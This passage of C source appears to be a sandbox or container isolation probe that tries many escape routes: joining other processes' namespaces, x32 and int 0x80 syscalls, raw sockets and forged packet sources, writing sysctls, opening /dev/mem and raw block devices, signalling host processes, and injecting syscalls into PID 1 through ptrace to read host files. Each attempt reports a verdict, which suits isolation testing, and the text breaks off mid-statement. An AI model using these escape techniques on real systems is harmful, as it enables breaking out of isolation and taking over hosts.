UNSHARE(a_unshare_cgroup, "unshare_cgroup", CLONE_NEWCGROUP)
UNSHARE(a_unshare_time, "unshare_time", CLONE_NEWTIME)

static const char *NS_NAMES[] = {"mnt", "pid", "net", "uts", "ipc", "cgroup", "user", "time", NULL};

static void a_setns_proc(void) {
    static int pids[65536];
    int np = list_pids("/proc", pids, 65536), foreign = 0, opened = 0, joined = 0, pfd_joined = 0;
    char what[400] = "";
    size_t l = 0;
    for (int i = 0; i < np; i++) {
        if (pids[i] == getpid()) continue;
        for (int k = 0; NS_NAMES[k]; k++) {
            char p[128], mine[64];
            snprintf(p, sizeof p, "/proc/%d/ns/%s", pids[i], NS_NAMES[k]);
            snprintf(mine, sizeof mine, "/proc/self/ns/%s", NS_NAMES[k]);
            unsigned long a = ns_ino(p), b = ns_ino(mine);
            if (!a || a == b) continue;
            foreign++;
            int fd = open(p, O_RDONLY | O_CLOEXEC);
            if (fd < 0) continue;
            opened++;
            if (setns(fd, 0) == 0) {
                joined++;
                if (l < sizeof what - 40) l += snprintf(what + l, sizeof what - l, "%s of %d; ", NS_NAMES[k], pids[i]);
            }
            close(fd);
        }
        int pfd = syscall(SYS_pidfd_open, pids[i], 0);
        if (pfd >= 0) {
            int flags = 0;
            const int bits[] = {CLONE_NEWNS, CLONE_NEWPID, CLONE_NEWNET, CLONE_NEWUTS, CLONE_NEWIPC, CLONE_NEWCGROUP, CLONE_NEWUSER, CLONE_NEWTIME};
            for (int k = 0; NS_NAMES[k]; k++) {
                char p[128], mine[64];
                snprintf(p, sizeof p, "/proc/%d/ns/%s", pids[i], NS_NAMES[k]);
                snprintf(mine, sizeof mine, "/proc/self/ns/%s", NS_NAMES[k]);
                unsigned long a = ns_ino(p), b = ns_ino(mine);
                if (a && a != b) flags |= bits[k];
            }
            if (flags && setns(pfd, flags) == 0) pfd_joined++;
            close(pfd);
        }
    }
    if (joined || pfd_joined)
        verdict("setns_proc", 1, "joined foreign namespaces: %s(%d through pidfds)", what, pfd_joined);
    else
        verdict("setns_proc", 0, "%d visible processes, %d foreign namespace handles, %d opened, none joined", np, foreign, opened);
}

/* --- the registry --- */

static void walk_open(const char *dir, int depth, int *opened, char *list, size_t n) {
    if (depth > 6) return;
    DIR *d = opendir(dir);
    if (!d) return;
    struct dirent *e;
    while ((e = readdir(d))) {
        if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, "..")) continue;
        char p[2048];
        snprintf(p, sizeof p, "%s/%s", dir, e->d_name);
        struct stat st;
        if (lstat(p, &st) != 0) continue;
        int fd = open(p, (S_ISDIR(st.st_mode) ? O_DIRECTORY : 0) | O_RDONLY | O_NONBLOCK | O_NOCTTY | O_NOFOLLOW | O_CLOEXEC);
        if (fd >= 0) {
            (*opened)++;
            size_t l = strlen(list);
            if (*opened <= 6 && l < n - 100) snprintf(list + l, n - l, "%s ", p);
            close(fd);
        }
        if (S_ISDIR(st.st_mode)) walk_open(p, depth + 1, opened, list, n);
    }
    closedir(d);
}

static void a_registry(void) {
    const char *rd = opt("rundir");
    if (!rd) {
        verdict("registry_files", 0, "no rundir given");
        verdict("registry_lock_open", 0, "no rundir given");
        verdict("registry_lock_flock", 0, "no rundir given");
        verdict("registry_ns_setns", 0, "no rundir given");
        return;
    }
    struct stat st;
    int visible = stat(rd, &st) == 0;
    int opened = 0;
    char list[600] = "";
    walk_open(rd, 0, &opened, list, sizeof list);
    if (opened)
        verdict("registry_files", 1, "%d entries under %s open: %s", opened, rd, list);
    else
        verdict("registry_files", 0, "%s %s, nothing under it opens", rd, visible ? "exists" : "is not visible");

    char lock[1200];
    snprintf(lock, sizeof lock, "%s/lock", rd);
    int fd = open(lock, O_RDONLY | O_CLOEXEC | O_NOFOLLOW | O_NONBLOCK);
    if (fd < 0) {
        verdict("registry_lock_open", 0, "open %s: %s", lock, err());
        verdict("registry_lock_flock", 0, "no lock to take (%s)", err());
    } else {
        verdict("registry_lock_open", 1, "opened %s", lock);
        if (flock(fd, LOCK_EX | LOCK_NB) == 0) {
            flock(fd, LOCK_UN);
            verdict("registry_lock_flock", 1, "took the registry lock (every host chcontext would wait)");
        } else if (errno == EWOULDBLOCK)
            verdict("registry_lock_flock", 1, "the lock is reachable (held by someone right now)");
        else
            verdict("registry_lock_flock", 0, "flock: %s", err());
        close(fd);
    }

    char ctx[1200];
    snprintf(ctx, sizeof ctx, "%s/ctx", rd);
    int handles = 0, joined = 0;
    char which[300] = "";
    DIR *d = opendir(ctx);
    struct dirent *e;
    while (d && (e = readdir(d))) {
        if (!is_pid_name(e->d_name)) continue;
        for (int k = 0; NS_NAMES[k]; k++) {
            char p[1400];
            snprintf(p, sizeof p, "%s/%s/ns/%s", ctx, e->d_name, NS_NAMES[k]);
            int h = open(p, O_RDONLY | O_CLOEXEC);
            if (h < 0) continue;
            handles++;
            if (setns(h, 0) == 0) {
                joined++;
                size_t l = strlen(which);
                if (l < sizeof which - 40) snprintf(which + l, sizeof which - l, "ctx %s %s; ", e->d_name, NS_NAMES[k]);
            }
            close(h);
        }
    }
    if (d) closedir(d);
    if (handles)
        verdict("registry_ns_setns", 1, "%d namespace handles under %s open, %d joined %s", handles, ctx, joined, which);
    else
        verdict("registry_ns_setns", 0, "no namespace handle under %s opens", ctx);
}

/* --- other syscall tables --- */

static void a_x32_getpid(void) {
    long r = syscall(SYS_getpid | X32_BIT);
    if (r > 0)
        verdict("x32_getpid", 1, "x32 getpid answered %ld", r);
    else
        verdict("x32_getpid", 0, "x32 getpid: %s", err());
}

static void a_x32_unshare(void) {
    long r = syscall(272 | X32_BIT, CLONE_NEWUSER); /* x32 unshare */
    must_fail("x32_unshare_userns", r, "x32 unshare(CLONE_NEWUSER)");
}

static long int80(long nr, long a, long b, long c) {
    long ret;
    __asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory", "r8", "r9", "r10", "r11");
    return ret;
}

static void a_i386_getpid(void) {
    long r = int80(20, 0, 0, 0); /* i386 getpid */
    if (r > 0)
        verdict("i386_getpid", 1, "int $0x80 getpid answered %ld", r);
    else
        verdict("i386_getpid", 0, "int $0x80 getpid: %s", strerror((int)-r));
}

static void a_i386_unshare(void) {
    long r = int80(310, CLONE_NEWUSER, 0, 0); /* i386 unshare */
    if (r == 0)
        verdict("i386_unshare_userns", 1, "int $0x80 unshare(CLONE_NEWUSER) succeeded");
    else
        verdict("i386_unshare_userns", 0, "int $0x80 unshare(CLONE_NEWUSER): %s", strerror((int)-r));
}

static void a_i386_open_by_handle(void) {
    long r = int80(342, AT_FDCWD, 0, O_RDONLY); /* i386 open_by_handle_at, NULL handle */
    if (r == -EFAULT || r == -EINVAL || r >= 0)
        verdict("i386_open_by_handle_at", 1, "int $0x80 open_by_handle_at reached the kernel (%ld)", r);
    else
        verdict("i386_open_by_handle_at", 0, "int $0x80 open_by_handle_at: %s", strerror((int)-r));
}

/* --- sockets --- */

static void sock_try(const char *name, int fam, int type, int proto, const char *what) {
    int fd = socket(fam, type | SOCK_CLOEXEC, proto);
    must_fail(name, fd, what);
    if (fd >= 0) close(fd);
}
static void a_raw_icmp(void) { sock_try("raw_inet_icmp", AF_INET, SOCK_RAW, IPPROTO_ICMP, "socket(AF_INET, SOCK_RAW, ICMP)"); }
static void a_raw_raw(void) { sock_try("raw_inet_raw", AF_INET, SOCK_RAW, IPPROTO_RAW, "socket(AF_INET, SOCK_RAW, IPPROTO_RAW)"); }
static void a_raw6(void) { sock_try("raw_inet6_icmpv6", AF_INET6, SOCK_RAW, IPPROTO_ICMPV6, "socket(AF_INET6, SOCK_RAW, ICMPV6)"); }
static void a_packet_raw(void) { sock_try("packet_raw", AF_PACKET, SOCK_RAW, htons(ETH_P_ALL), "socket(AF_PACKET, SOCK_RAW)"); }
static void a_packet_dgram(void) { sock_try("packet_dgram", AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP), "socket(AF_PACKET, SOCK_DGRAM)"); }
static void a_sock_packet(void) { sock_try("sock_packet", AF_INET, SOCK_PACKET, htons(ETH_P_ALL), "socket(AF_INET, SOCK_PACKET)"); }

static int v4(const char *s, struct sockaddr_in *a, int port) {
    memset(a, 0, sizeof *a);
    a->sin_family = AF_INET;
    a->sin_port = htons(port);
    return inet_pton(AF_INET, s, &a->sin_addr) == 1;
}

static void v6(const char *s, struct sockaddr_in6 *a, int port) {
    memset(a, 0, sizeof *a);
    a->sin6_family = AF_INET6;
    a->sin6_port = htons(port);
    inet_pton(AF_INET6, s, &a->sin6_addr);
}

static const char *foreign(void) { return opt("foreign") ? opt("foreign") : "127.0.0.3"; }

static void a_ping4(void) {
    int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, IPPROTO_ICMP);
    if (fd < 0) {
        verdict("ping_socket_inet", 0, "socket(AF_INET, SOCK_DGRAM, ICMP): %s", err());
        return;
    }
    const char *root = opt("ipv4root");
    struct sockaddr_in a;
    v4(foreign(), &a, 0);
    int b = bind(fd, (struct sockaddr *)&a, sizeof a);
    char bound[80];
    snprintf(bound, sizeof bound, "%s", b == 0 ? "ok" : err());
    unsigned char echo[8] = {8, 0, 0, 0, 0, 1, 0, 1};
    struct sockaddr_in to;
    v4("127.0.0.1", &to, 0);
    long s = sendto(fd, echo, sizeof echo, 0, (struct sockaddr *)&to, sizeof to);
    if (!root)
        verdict("ping_socket_inet", 0, "created, but no ipv4root to hold it to (bind %s: %s)", foreign(), bound);
    else
        verdict("ping_socket_inet", 1, "an ICMP socket under ipv4root %s (bind %s: %s; sendto 127.0.0.1: %s)", root, foreign(), bound, s >= 0 ? "ok" : err());
    close(fd);
}

static void a_ping6(void) {
    int fd = socket(AF_INET6, SOCK_DGRAM | SOCK_CLOEXEC, IPPROTO_ICMPV6);
    if (fd < 0) {
        verdict("ping_socket_inet6", 0, "socket(AF_INET6, SOCK_DGRAM, ICMPV6): %s", err());
        return;
    }
    struct sockaddr_in6 a;
    v6("::1", &a, 0);
    int b = bind(fd, (struct sockaddr *)&a, sizeof a);
    if (!opt("ipv4root"))
        verdict("ping_socket_inet6", 0, "created, but no ipv4root to hold it to (bind ::1: %s)", b == 0 ? "ok" : err());
    else
        verdict("ping_socket_inet6", 1, "an ICMPv6 socket while IPv6 is refused (bind ::1: %s)", b == 0 ? "ok" : err());
    close(fd);
}

static void a_bind_foreign(void) {
    if (!opt("ipv4root")) {
        verdict("bind_foreign", 0, "no ipv4root");
        return;
    }
    int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in a;
    v4(foreign(), &a, 0);
    must_fail("bind_foreign", bind(fd, (struct sockaddr *)&a, sizeof a), "bind to the foreign address");
}

static void a_freebind(void) {
    if (!opt("ipv4root")) {
        verdict("freebind_nonlocal", 0, "no ipv4root");
        return;
    }
    int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), one = 1;
    setsockopt(fd, IPPROTO_IP, IP_FREEBIND, &one, sizeof one);
    struct sockaddr_in a;
    v4("198.51.100.7", &a, 0);
    must_fail("freebind_nonlocal", bind(fd, (struct sockaddr *)&a, sizeof a), "IP_FREEBIND + bind 198.51.100.7");
}

static void a_transparent(void) {
    int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), one = 1;
    must_fail("ip_transparent", setsockopt(fd, IPPROTO_IP, IP_TRANSPARENT, &one, sizeof one), "IP_TRANSPARENT");
}

static void a_bind6_lo(void) {
    if (!opt("ipv4root")) {
        verdict("bind_ipv6_loopback", 0, "no ipv4root");
        return;
    }
    int fd = socket(AF_INET6, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in6 a;
    v6("::1", &a, 0);
    must_fail("bind_ipv6_loopback", bind(fd, (struct sockaddr *)&a, sizeof a), "bind ::1 with IPv6 refused");
}

static void a_send6_lo(void) {
    if (!opt("ipv4root")) {
        verdict("send_ipv6_loopback", 0, "no ipv4root");
        return;
    }
    int fd = socket(AF_INET6, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in6 a;
    v6("::1", &a, 9);
    must_fail("send_ipv6_loopback", sendto(fd, "x", 1, 0, (struct sockaddr *)&a, sizeof a), "sendto [::1]:9 with IPv6 refused");
}

/* A receiver on 127.0.0.1 (the ipv4root maps it to its own address): where did
 * a datagram sent with a forged source come from? */
static int receiver(struct sockaddr_in *at) {
    int r = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in a;
    v4("127.0.0.1", &a, 0);
    if (bind(r, (struct sockaddr *)&a, sizeof a) < 0) return -1;
    socklen_t l = sizeof *at;
    getsockname(r, (struct sockaddr *)at, &l);
    struct timeval tv = {1, 0};
    setsockopt(r, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    return r;
}

static void received(const char *name, int r, long sent, const char *sendwhat) {
    const char *root = opt("ipv4root");
    if (sent < 0) {
        verdict(name, 0, "%s: %s", sendwhat, err());
        return;
    }
    char buf[16];
    struct sockaddr_in from;
    socklen_t fl = sizeof from;
    if (recvfrom(r, buf, sizeof buf, 0, (struct sockaddr *)&from, &fl) < 0) {
        verdict(name, 0, "%s went out, nothing arrived (%s)", sendwhat, err());
        return;
    }
    char src[32];
    inet_ntop(AF_INET, &from.sin_addr, src, sizeof src);
    if (!root)
        verdict(name, 0, "arrived from %s (no ipv4root)", src);
    else if (strcmp(src, root) != 0)
        verdict(name, 1, "the receiver saw source %s, outside ipv4root %s", src, root);
    else
        verdict(name, 0, "the source became %s", src);
}

static void a_pktinfo4(void) {
    struct sockaddr_in at;
    int r = receiver(&at);
    if (r < 0) {
        verdict("ip_pktinfo_source", 0, "no receiver: %s", err());
        return;
    }
    int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    char cbuf[CMSG_SPACE(sizeof(struct in_pktinfo))] = {0};
    struct iovec iov = {"pkt", 3};
    struct msghdr m = {0};
    m.msg_name = &at;
    m.msg_namelen = sizeof at;
    m.msg_iov = &iov;
    m.msg_iovlen = 1;
    m.msg_control = cbuf;
    m.msg_controllen = sizeof cbuf;
    struct cmsghdr *c = CMSG_FIRSTHDR(&m);
    c->cmsg_level = IPPROTO_IP;
    c->cmsg_type = IP_PKTINFO;
    c->cmsg_len = CMSG_LEN(sizeof(struct in_pktinfo));
    struct in_pktinfo pi = {0};
    inet_pton(AF_INET, foreign(), &pi.ipi_spec_dst);
    memcpy(CMSG_DATA(c), &pi, sizeof pi);
    received("ip_pktinfo_source", r, sendmsg(s, &m, 0), "sendmsg with IP_PKTINFO source 127.0.0.3");
}

static void a_pktinfo6_mapped(void) {
    struct sockaddr_in at;
    int r = receiver(&at);
    if (r < 0) {
        verdict("ipv6_pktinfo_mapped_source", 0, "no receiver: %s", err());
        return;
    }
    int s = socket(AF_INET6, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in6 to = {0};
    to.sin6_family = AF_INET6;
    to.sin6_port = at.sin_port;
    to.sin6_addr.s6_addr[10] = 0xff;
    to.sin6_addr.s6_addr[11] = 0xff;
    memcpy(&to.sin6_addr.s6_addr[12], &at.sin_addr, 4);
    char cbuf[CMSG_SPACE(sizeof(struct in6_pktinfo))] = {0};
    struct iovec iov = {"pkt", 3};
    struct msghdr m = {0};
    m.msg_name = &to;
    m.msg_namelen = sizeof to;
    m.msg_iov = &iov;
    m.msg_iovlen = 1;
    m.msg_control = cbuf;
    m.msg_controllen = sizeof cbuf;
    struct cmsghdr *c = CMSG_FIRSTHDR(&m);
    c->cmsg_level = IPPROTO_IPV6;
    c->cmsg_type = IPV6_PKTINFO;
    c->cmsg_len = CMSG_LEN(sizeof(struct in6_pktinfo));
    struct in6_pktinfo pi = {0};
    pi.ipi6_addr.s6_addr[10] = 0xff;
    pi.ipi6_addr.s6_addr[11] = 0xff;
    inet_pton(AF_INET, foreign(), &pi.ipi6_addr.s6_addr[12]);
    memcpy(CMSG_DATA(c), &pi, sizeof pi);
    received("ipv6_pktinfo_mapped_source", r, sendmsg(s, &m, 0), "sendmsg to a v4-mapped address with IPV6_PKTINFO ::ffff:127.0.0.3");
}

static void a_pktinfo6(void) {
    if (!opt("ipv4root")) {
        verdict("ipv6_pktinfo_loopback", 0, "no ipv4root");
        return;
    }
    int s = socket(AF_INET6, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in6 to;
    v6("::1", &to, 9);
    char cbuf[CMSG_SPACE(sizeof(struct in6_pktinfo))] = {0};
    struct iovec iov = {"pkt", 3};
    struct msghdr m = {0};
    m.msg_name = &to;
    m.msg_namelen = sizeof to;
    m.msg_iov = &iov;
    m.msg_iovlen = 1;
    m.msg_control = cbuf;
    m.msg_controllen = sizeof cbuf;
    struct cmsghdr *c = CMSG_FIRSTHDR(&m);
    c->cmsg_level = IPPROTO_IPV6;
    c->cmsg_type = IPV6_PKTINFO;
    c->cmsg_len = CMSG_LEN(sizeof(struct in6_pktinfo));
    struct in6_pktinfo pi = {0};
    inet_pton(AF_INET6, "::1", &pi.ipi6_addr);
    memcpy(CMSG_DATA(c), &pi, sizeof pi);
    must_fail("ipv6_pktinfo_loopback", sendmsg(s, &m, 0), "sendmsg to [::1] with IPV6_PKTINFO ::1 while IPv6 is refused");
}

static void a_so_mark(void) {
    int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), mark = 7;
    must_fail("so_mark", setsockopt(fd, SOL_SOCKET, SO_MARK, &mark, sizeof mark), "SO_MARK");
}

static void a_ifflags(void) {
    int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    struct ifreq ifr = {0};
    snprintf(ifr.ifr_name, sizeof ifr.ifr_name, "lo");
    if (ioctl(fd, SIOCGIFFLAGS, &ifr) < 0) {
        verdict("netadmin_ifflags", 0, "SIOCGIFFLAGS lo: %s", err());
        return;
    }
    must_fail("netadmin_ifflags", ioctl(fd, SIOCSIFFLAGS, &ifr), "SIOCSIFFLAGS lo (same flags)");
}

/* --- sysctl and /sys: write back what was read --- */

static void writeback(const char *name, const char *path, const char *remount_dir, int selected_word) {
    char val[4096];
    ssize_t n = slurp(path, val, sizeof val);
    if (n < 0) {
        verdict(name, 0, "read %s: %s", path, err());
        return;
    }
    if (selected_word) { /* "always [madvise] never" -> "madvise" */
        char *a = strchr(val, '['), *b = a ? strchr(a, ']') : NULL;
        if (!a || !b) {
            verdict(name, 0, "no [selected] word in %s", path);
            return;
        }
        *b = 0;
        memmove(val, a + 1, strlen(a + 1) + 1);
        n = strlen(val);
    }
    const char *route = "directly";
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0 && errno == EROFS && remount_dir && private_ns() &&
        mount(NULL, remount_dir, NULL, MS_REMOUNT | MS_BIND | (mount_flags(remount_dir) & ~MS_RDONLY), NULL) == 0) {
        route = "after remounting it writable";
        fd = open(path, O_WRONLY | O_CLOEXEC);
    }
    if (fd < 0) {
        verdict(name, 0, "open %s for writing: %s", path, err());
        return;
    }
    ssize_t w = write(fd, val, n);
    char shown[64];
    snprintf(shown, sizeof shown, "%.*s", (int)(n > 40 ? 40 : n), val);
    if (w == n)
        verdict(name, 1, "wrote '%s' back to %s %s", shown, path, route);
    else
        verdict(name, 0, "write %s: %s", path, w < 0 ? err() : "short");
}

static void a_sysctl_kernel(void) { writeback("sysctl_kernel_printk_ratelimit_burst", "/proc/sys/kernel/printk_ratelimit_burst", "/proc/sys", 0); }
static void a_sysctl_vm(void) { writeback("sysctl_vm_stat_interval", "/proc/sys/vm/stat_interval", "/proc/sys", 0); }
static void a_sysctl_fs(void) { writeback("sysctl_fs_lease_break_time", "/proc/sys/fs/lease-break-time", "/proc/sys", 0); }
static void a_sysctl_hostname(void) { writeback("sysctl_kernel_hostname", "/proc/sys/kernel/hostname", "/proc/sys", 0); }
static void a_sysctl_somaxconn(void) { writeback("sysctl_net_core_somaxconn", "/proc/sys/net/core/somaxconn", "/proc/sys", 0); }
static void a_sysctl_forward(void) { writeback("sysctl_net_ipv4_ip_forward", "/proc/sys/net/ipv4/ip_forward", "/proc/sys", 0); }
static void a_sysctl_ping_range(void) { writeback("sysctl_net_ipv4_ping_group_range", "/proc/sys/net/ipv4/ping_group_range", "/proc/sys", 0); }

static void a_sys_thp(void) { writeback("sys_thp_enabled", "/sys/kernel/mm/transparent_hugepage/enabled", "/sys", 1); }
static void a_sys_thp_defrag(void) { writeback("sys_thp_defrag", "/sys/kernel/mm/transparent_hugepage/defrag", "/sys", 1); }
static void a_sys_printk_time(void) { writeback("sys_module_printk_time", "/sys/module/printk/parameters/time", "/sys", 0); }
static void a_sys_rcu(void) { writeback("sys_kernel_rcu_expedited", "/sys/kernel/rcu_expedited", "/sys", 0); }

static void open_for_write(const char *name, const char *path) {
    int fd = open(path, O_WRONLY | O_CLOEXEC | O_NONBLOCK);
    if (fd >= 0) {
        close(fd);
        verdict(name, 1, "%s opens for writing", path);
    } else
        verdict(name, 0, "open %s for writing: %s", path, err());
}
static void a_sys_power(void) { open_for_write("sys_power_state", "/sys/power/state"); }
static void a_sysrq(void) { open_for_write("sysrq_trigger", "/proc/sysrq-trigger"); }
static void a_sysrq_sysctl(void) { open_for_write("sysctl_kernel_sysrq", "/proc/sys/kernel/sysrq"); }

/* --- devices --- */

static void a_mknod_block(void) {
    char p[1200];
    snprintf(p, sizeof p, "%s/blk", g_scratch);
    long r = mknod(p, S_IFBLK | 0600, makedev(7, 0));
    if (r == 0) unlink(p);
    must_fail("mknod_block", r, "mknod b 7 0");
}

static void a_mknod_char(void) {
    char p[1200];
    snprintf(p, sizeof p, "%s/chr", g_scratch);
    long r = mknod(p, S_IFCHR | 0600, makedev(1, 1));
    if (r == 0) unlink(p);
    must_fail("mknod_char", r, "mknod c 1 1");
}

static void a_devmem(void) {
    const char *devs[] = {"/dev/mem", "/dev/kmem", "/dev/port", "/proc/kcore", NULL};
    char got[300] = "", why[300] = "";
    for (int i = 0; devs[i]; i++) {
        int fd = open(devs[i], O_RDONLY | O_CLOEXEC);
        size_t l;
        if (fd >= 0) {
            l = strlen(got);
            snprintf(got + l, sizeof got - l, "%s ", devs[i]);
            close(fd);
        } else {
            l = strlen(why);
            snprintf(why + l, sizeof why - l, "%s: %s; ", devs[i], err());
        }
    }
    if (got[0])
        verdict("kernel_memory_open", 1, "opened %s", got);
    else
        verdict("kernel_memory_open", 0, "%s", why);
}

static void a_blockdev(void) {
    DIR *d = opendir("/dev");
    int n = 0, readable = 0;
    char which[300] = "";
    struct dirent *e;
    while (d && (e = readdir(d))) {
        char p[300];
        struct stat st;
        snprintf(p, sizeof p, "/dev/%s", e->d_name);
        if (lstat(p, &st) || !S_ISBLK(st.st_mode)) continue;
        n++;
        int fd = open(p, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
        if (fd < 0) continue;
        char buf[512];
        if (read(fd, buf, sizeof buf) > 0) {
            readable++;
            size_t l = strlen(which);
            snprintf(which + l, sizeof which - l, "%s ", p);
        }
        close(fd);
    }
    if (d) closedir(d);
    if (readable)
        verdict("blockdev_read", 1, "read raw blocks from %s", which);
    else
        verdict("blockdev_read", 0, "%d block devices in /dev, none readable", n);
}

/* --- host processes --- */

static void a_host_visible(void) {
    char desc[600];
    int n = host_scan("/proc", desc, sizeof desc);
    struct mnt m[32];
    int nm = mounts_of("proc", m, 32);
    for (int i = 0; i < nm && !n; i++)
        if (strcmp(m[i].point, "/proc")) n = host_scan(m[i].point, desc, sizeof desc);
    if (n)
        verdict("host_processes_visible", 1, "%s", desc);
    else
        verdict("host_processes_visible", 0, "no host process in /proc (marker %s)", marker_opt() ? marker_opt() : "none given");
}

static void a_host_signal(void) {
    static int pids[65536];
    const char *marker = marker_opt();
    int np = list_pids("/proc", pids, 65536), hits = 0, seen = 0;
    char what[400] = "";
    size_t l = 0;
    for (int i = 0; i < np; i++) {
        char p[128], buf[4096], link[64], want[64];
        snprintf(p, sizeof p, "/proc/%d/cmdline", pids[i]);
        ssize_t len = slurp(p, buf, sizeof buf);
        int is_marker = marker && len > 0 && memmem(buf, len, marker, strlen(marker));
        snprintf(p, sizeof p, "/proc/%d/ns/pid", pids[i]);
        ssize_t ll = readlink(p, link, sizeof link - 1);
        link[ll > 0 ? ll : 0] = 0;
        snprintf(want, sizeof want, "pid:[%lu]", g_hostns);
        if (!is_marker && strcmp(link, want)) continue;
        seen++;
        if (kill(pids[i], 0) == 0) {
            hits++;
            if (l < sizeof what - 40) l += snprintf(what + l, sizeof what - l, "kill %d; ", pids[i]);
        }
        int pfd = syscall(SYS_pidfd_open, pids[i], 0);
        if (pfd >= 0) {
            hits++;
            close(pfd);
            if (l < sizeof what - 40) l += snprintf(what + l, sizeof what - l, "pidfd %d; ", pids[i]);
        }
        /* A /proc/PID directory is a pidfd too: it names the process whatever
         * pid namespace the caller is in. Signal 0 only probes. */
        snprintf(p, sizeof p, "/proc/%d", pids[i]);
        int dfd = open(p, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (dfd >= 0) {
            if (syscall(SYS_pidfd_send_signal, dfd, 0, NULL, 0) == 0) {
                hits++;
                if (l < sizeof what - 40) l += snprintf(what + l, sizeof what - l, "signal via /proc/%d; ", pids[i]);
            }
            close(dfd);
        }
        if (is_marker && ptrace(PTRACE_SEIZE, pids[i], 0, 0) == 0) {
            hits++;
            ptrace(PTRACE_DETACH, pids[i], 0, 0);
            if (l < sizeof what - 40) l += snprintf(what + l, sizeof what - l, "seized %d; ", pids[i]);
        }
    }
    if (hits)
        verdict("host_processes_signal_ptrace", 1, "reached host processes: %s", what);
    else
        verdict("host_processes_signal_ptrace", 0, "%d host processes visible, none reached (%d pids scanned)", seen, np);
}

/* --- the context's PID 1 and other visible helpers --- */

static void a_init_status(void) {
    struct pstate s = read_state(1);
    if (!s.ok) {
        verdict("init_capabilities", 0, "/proc/1/status unreadable: %s", err());
        verdict("init_seccomp", 0, "/proc/1/status unreadable");
        verdict("init_no_new_privs", 0, "/proc/1/status unreadable");
        return;
    }
    uint64_t mine = g_me.bnd | g_me.eff;
    uint64_t extra = (s.eff | s.prm | s.bnd | s.amb) & ~mine;
    if (extra)
        verdict("init_capabilities", 1, "PID 1 (%s) holds 0x%llx beyond the probe's 0x%llx (CapEff %llx CapBnd %llx)", s.name, (unsigned long long)extra,
                (unsigned long long)mine, (unsigned long long)s.eff, (unsigned long long)s.bnd);
    else
        verdict("init_capabilities", 0, "PID 1 (%s) CapEff %llx CapBnd %llx within the probe's %llx", s.name, (unsigned long long)s.eff, (unsigned long long)s.bnd,
                (unsigned long long)mine);
    if (g_me.seccomp == 2 && s.seccomp == 0)
        verdict("init_seccomp", 1, "PID 1 (%s) has no seccomp filter, the probe has %ld", s.name, g_me.filters);
    else
        verdict("init_seccomp", 0, "PID 1 Seccomp %ld (%ld filters), the probe %ld (%ld)", s.seccomp, s.filters, g_me.seccomp, g_me.filters);
    if (g_me.nnp == 1 && s.nnp == 0)
        verdict("init_no_new_privs", 1, "PID 1 (%s) lacks no_new_privs, the probe has it", s.name);
    else
        verdict("init_no_new_privs", 0, "PID 1 NoNewPrivs %ld, the probe %ld", s.nnp, g_me.nnp);
}

static void a_init_inject(void) {
    struct victim v;
    const char *why = seize(&v, 1);
    if (why) {
        verdict("init_inject_open_by_handle_at", 0, "%s", why);
        verdict("init_inject_unshare_userns", 0, "%s", why);
        return;
    }
    int ok;
    /* A page of PID 1's own to hold the handle and the path. */
    long page = inject(&v, &ok, SYS_mmap, 0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (!ok || (page < 0 && page > -4096)) {
        release(&v);
        verdict("init_inject_open_by_handle_at", 0, "seized PID 1 but the injected mmap failed (%ld, %s)", page, ok ? "ran" : "mechanics");
        verdict("init_inject_unshare_userns", 0, "no injection (mmap failed)");
        return;
    }
    struct handle h;
    char dir[1024];
    const char *hwhy = host_handle(&h, dir, sizeof dir);
    if (hwhy) {
        verdict("init_inject_open_by_handle_at", 0, "seized PID 1; %s", hwhy);
    } else if (poke(1, page, &h, sizeof h) < 0 || poke(1, page + 1024, dir, strlen(dir) + 1) < 0) {
        verdict("init_inject_open_by_handle_at", 0, "seized PID 1; writing into its page failed: %s", err());
    } else {
        long mfd = inject(&v, &ok, SYS_openat, AT_FDCWD, page + 1024, O_RDONLY | O_DIRECTORY | O_CLOEXEC, 0, 0, 0);
        long fd = mfd >= 0 ? inject(&v, &ok, SYS_open_by_handle_at, mfd, page, O_RDONLY | O_CLOEXEC, 0, 0, 0) : mfd;
        if (fd >= 0) {
            char content[65] = "";
            long n = inject(&v, &ok, SYS_pread64, fd, page + 2048, 64, 0, 0, 0);
            if (n > 0) peek(1, page + 2048, content, n > 64 ? 64 : n);
            content[n > 0 && n < 65 ? n : 0] = 0;
            char link[256] = "", lp[64];
            snprintf(lp, sizeof lp, "/proc/1/fd/%ld", fd);
            ssize_t ll = readlink(lp, link, sizeof link - 1);
            link[ll > 0 ? ll : 0] = 0;
            inject(&v, &ok, SYS_close, fd, 0, 0, 0, 0, 0);
            verdict("init_inject_open_by_handle_at", 1, "PID 1 opened the host file through a handle: %s, content '%s'", link, content);
        } else
            verdict("init_inject_open_by_handle_at", 0, "injected open_by_handle_at: %s", strerror((int)-fd));
        if (mfd >= 0) inject(&v, &ok, SYS_close, mfd, 0, 0, 0, 0, 0);
    }
    inject(&v, &ok, SYS_munmap, page, 4096, 0, 0, 0, 0);
    /* Last: it changes PID 1's user namespace for good. */
    long r = inject(&v, &ok, SYS_unshare, CLONE_NEWUSER, 0, 0, 0, 0, 0);
    release(&v);
    if (ok && r == 0)
        verdict("init_inject_unshare_userns", 1, "PID 1 made a user namespace for the attacker");
    else
